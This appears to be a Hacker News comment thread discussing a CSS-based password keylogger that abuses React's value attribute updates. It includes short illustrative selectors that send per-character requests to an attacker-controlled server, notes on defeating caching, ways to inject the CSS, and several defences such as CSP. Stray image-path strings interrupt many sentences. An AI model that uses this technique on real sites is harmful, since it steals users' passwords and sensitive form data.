There are websites which allow users to customize themes of certain pages; such at Tumblrand Reddit. I believe these allow custom CSS. There are probablyplenty of other places where it may be possible to inject CSS but not JavaScript.

So, it's worth demonstrating the vulnerability, even if the current way of distributing it only really makes sense for testing purposes.

> The Instagram password field mentioned in thereadme.md DOES work this way due to some custom javascript, for reasons that escape me

Instagram is a React app and React works that way.

Thanks, always nice to hear from somebody who knows something. So this seem like a flaw in React rather than a flaw in browsers - there is no reason to leak the typed-in password value into the the value attribute where CSS can get its' grubby mitts on it.

React doesn't work that way. It's a convention which I persoally havealways found questionable.

It's more than a convention. It's presented as the default way to do it in the official docs. https://reactjs.org/docs/forms.html#controlled-components

Could use an uncontrolled component, which I don't think is vulnerable? https://reactjs.org/docs/uncontrolled-components.html

For simple username/password entry I see no reason to use a controlled component.

That should be fine, at least for avoiding this attack.

In general, though, there are solid reasons to use this pattern in React. With uncontrolled components, you won’t be able to use React to do form validation or AJAX form submission. You would need to bypass the React virtual DOM and attach listeners on the actual DOM elements.You can still do form validation on submit though, according to dimgl's earlier comment: https://news.ycombinator.com/item?id=16426131

Very good point! With that method you can still display validation errors in a “Reacty” way. But you still don’t get pre-submit validation, like marking an input invalid on blur, or displaying real-time password strength.

You can still capture an uncontrolled input's data `onChange` and `onBlur` for validation, password strength checking, later submission etc., you just don't reflect it back into the input on every render.The only thing it affects is your ability to change the input's data via a state change, but for a password field would you ever want to do anything but get its current value or clear it?

You’re right. With a little effort you could create reusable React form fields that are not controlled but which communicate their value/blur/etc. back to React for validation purposes.

And yes, for password inputs, I can’t think of a case where you would absolutely need to control the value via React. Things like password confirmation validation and password strength indicators can be implemented via onChange and onBlur. It’s more tedious than the normal controlled input pattern, but given vulnerabilities like this one, it’s likely worth creating reusable uncontrolled inputs.

I think the doc ought to be updated to say that you shouldn't make a password field a controlled component, and maybe even warnings added if you set value at all.

Why do you find it questionable, other than the possibility of attacks like this?

I could see this being an issue on sites that allow custom css (reddit)

The combination of the two prerequisite conditions is probably tiny. JS needs to update the css accessible value attribute of the field as well. That's a less likely situation. I guess anything that's react + this auth method + custom CSS is vulnerable. Can't think of anything that does all three.

All you need is a website with a vulnerable password form and the ability to serve malicious CSS, say, via an ad. Seems pretty dangerous to me.

Because of accesslevels. You may install an extension that requires no access to anything interesting (hey it's just harmless css), but may refuse to install something that wants to read your dom.

Another fun thing: user css / theme extensions where you only install themes. Themes are not dangerous, are they? It's just eyecandy.

> The Instagram password field mentioned in the readme.md DOES work this way due to some custom javascript, for reasons that escape me.


Firewalls blocking javascript would let this pass, NoScript users would get their info stolen, CSS injection vulnerabilities may not allow a XSS as well.

If you do control the page, there may not be that many reasons, but if you only have a limited entry-point, this is very interesting.

Javascript can be blocked from chrome extensions. In fact, Instagram does block javascript. However, clearlycss is not blocked.

What do you mean by "Instagram does block javascript"? What JS does it block?

You can't event get a list of extensions installed (from a page), but please do tell. You mean generic blocking via CSP/HSTS?

This exploit might be defeated with the following css:

input[type="password"] { background-image: none !important; }

And if the exploit uses `!important` then you just need to make your selector more specific such as putting it inside an id. If you have malicious javascript running on your page there are better ways to steal data. I feel there is low risk of coming across this problem in the wild.

Actually if you use inline style with important there is no way to override it.

I.e. <input type="password" style="background-image:none !important"/>

Although that does rely on targeting that specific attribute. There are probably a handful of ways to trigger an http request in this instance.

You don't actually even need to select that specific node - whilst you can't use :after on replaced elements, if the input has a sibling an attacker could input[type="password"] + div:after or something along those lines.

The main takeaway for me is that making a password field a controlled component is a marginal security risk in some instances, and letting people pump their own styles into sign-in pages is a bad idea.I've been noticing a lot of CSP talk lately, how CSP is the end-all be-all solution for lots of these types of attacks. Makes me think we should have more articles about how to properly implement a CSP! (content security policy-prevents requests to websites not on the white-list -- the background image request would be rejected)

No it does not. CSS selectors do not apply to input content and `[value]` selectors apply to attributes, which are not updated by just typing in it.

This is not a CSS keylogger if you need to update the attributes with the input value via JS.

Edit: this apparently works on React sites because React seems to update the `value` attribute as well. Maybe that should be fixed as it’s unnecessary.

To be really dangerous, I think this would need to defeat client-side cache strategies. If the browser caches each resource, the server-side reads wouldn't account for repeated characters or overall length with perfect accuracy. Consider palindromes like "racecar."

This would still put many, if not most, passwords within guessablestriking distance, for anyone able to intercept plain-text HTTP traffic, between Alice (the client) and Bob (the CSS image resource server).

Keylogger server response can recommend the browser not to cache.

The server just returns a 400, causing the browser to no longer cache it.

True! And now I’m realizing, depending on position in the network, the server doen’t even need to exist, if one only needed to MITM the request traffic... Geeze.

This might need to defeat backspace, too.

I wonder if it's possible to make auto-updating CSS. CSS can use @import url("another.css"), and "another.css" might be returned with delay and import "another2.css", but I'm not sure if browser would process current css before it'll import everything.

If this would work, it could spy even without React. Detect first character, then server returns next CSS to detect second character and so on.

You'd have to have all permutations of any length password in the css file AND it would have to be pre-filled using the value attribute.

The original post on this talks about it in more detail:


Summary: A method is detailed - dubbed CSS Exfil - which can be used to steal targeted data using Cascading Style Sheets (CSS) as an attack vector. Due to the modern web's heavy reliance on CSS, a wide variety of data is potentially at risk, including: usernames, passwords, and sensitive data such as date of birth, social security numbers, and credit card numbers. The technique can also beused to de-anonymize users on dark nets like Tor. Defense methods are discussed for both website operators as well as web users, and a pair of browser extensions are offered which guard against this class of attack.

It is using an attribute selector that matches against the last character only - so no giant file of permutations required.

Also, and critically, the server always responds with an HTTP 400 status code. This prevents caching in most browsers, so the request will be made again when a key is repeated.

In short: this works when the SERVER returns a page with pre-entered information.

This is common when returning to a form you previously filled, like an address for, but it's very, very rare for this to happen to a password field. Like,why would a server send you a password field with your real password pre-entered?

Every other type of data is fair game... given that the attacker can inject CSS into your pages.

Why not

  input[type="password"] {
    background-image: url(attr(value));


url(attr(...)) isn't supported by any browseryet, AFAIK

Interestingly, you can defeat this key logger by typing the last character first, use thearrow key to go left and type in the rest. This works because the CSS selector only matches the end of the value input.

yea, and also when copy-pasting the password.

This isn’t a problem. CSS could already control what’s displayed and what effect it has. It could already make clicking “next page” open an invisible chat to their account, your password box send your password as a message, and your message from a friend read anything they want. It’s always been a trusted asset.

What might be a problem is developers nottreating it as such.

Can't Chrome extensions already intercept network traffic though? Why does this need to be done at the CSS level?

Chrome extensions are used here as the method for injecting CSS, but there are other possible ways to inject such CSS.

e.g. ads.

This is a very good question. The github project README does not say anything about the issue with the extensions. Does it also work in a regular page? Weird.Couldn't Content Security Policy (CSP) [1] be used to mitigate this attack?

[1]: https://developer.mozilla.org/en-US/docs/Web/HTTP/CSP

It actually can't. Instagram does use this protect java-script injection from extensions, but clearly injecting CSS is allowed.

But could you use CSP to block the image loading that happens in the CSS with 'img-src' definitions?

Someone else in this thread suggested that as well.

The requested resource, however, could be blocked by a CSP.

I can't seem to make it work from a web page. Perhaps it's for extensions only?


The input has to have the "value" set in the HTML. https://jsfiddle.net/tdwsw6zo/4/

Well, yes of course but that's simply an attribute selector parsing the raw HTML.

This can be done with any attribute:

<input type="password" hackernews="isthebestwebsite">

input[type="password"][hackernews$="isthebestwebsite"] { background-image: url("http://placehold.it/15x15?text=h4x0r"); }

That's not a keylogger at all, the data is already printed in the HTML source.

the point is that react updates the attribute every time you type a character into the password field. So if you have the rules for background-image: url("http://your.server/a"); for password fields that END with 'a', and a rule background-image: url("http://your.server/b"); forpassword fields that END with 'b', if you type "ab", after the a, the value attribute is updated and the css will request the background for passwords that end with 'a', then when you type b, the attribute is updated again and the css will request the password for 'b's. so you check your server logs and you will have 2 requests, one for a and one for b. you now know that they typed "ab".

Most people in the comments don't seem to understand how this works. i.e. you don't need to have rules for all possible passwords, just one for each character.

Yup, you'd have to have all permutations of any length password in the css file AND it would have to be pre-filled using the value attribute. The original post on this talks about it in more detail: https://www.mike-gualtieri.com/posts/stealing-data-with-css-...

Your background-image url must be an endpoint that can process a request. Simply, requesting a placehold.it/a image is pointless, but sending to l33thacker.com/a, assuming that l33thacker.com knows how to process that request maliciously, will work.But you would still see the network call to placehold.it/ if it actually worked.

It can be done manually. Send the request to a server you control and check the logs. It doesn't scale well but it would work fine for a targeted attack.

I have not tried it, but if it works (it should): Chapeau, a very neat exploit indeed.

Why do you have to activate the extension before entering the password?

Probably to add the css file to the page you're on.

So you can test the "exploit" obviously.

yes obviously, but in a real world scenario how would that work? Malicious extension loads the CSS file in my current tab and sniffs my password on the attacker's server? Can Chrome extensions load CSS without me having to click/activate them?

Yes they can. This attack does not have to be carried done through a chrome extension. I simply chose that because it is the easiest to show off. This can be hidden inside of a malicious npm module or injected into a website that has poor input sanitization.

The most important aspect of this attack is that it is carried out through css. It is possible to block remote javascript code from an extension, in fact, if one wanted to inject javascript into https://instagram.com (my example on github), they would fail.

Thanks OP - that answers it!

The extension is just a way to inject this demo into any site, but extensions that you install can run JavaScript in any site they're allowed to, so this "hack" isn't necessary in that case.

One way of mitigating this is to have strong passwords NOT in alphanumeric characters (if allowed by website), such asmixing emojis with Asian characters.

I hate the internet.

You should try the cloud it works way better

The internet was OK, it's the web that broke bad.

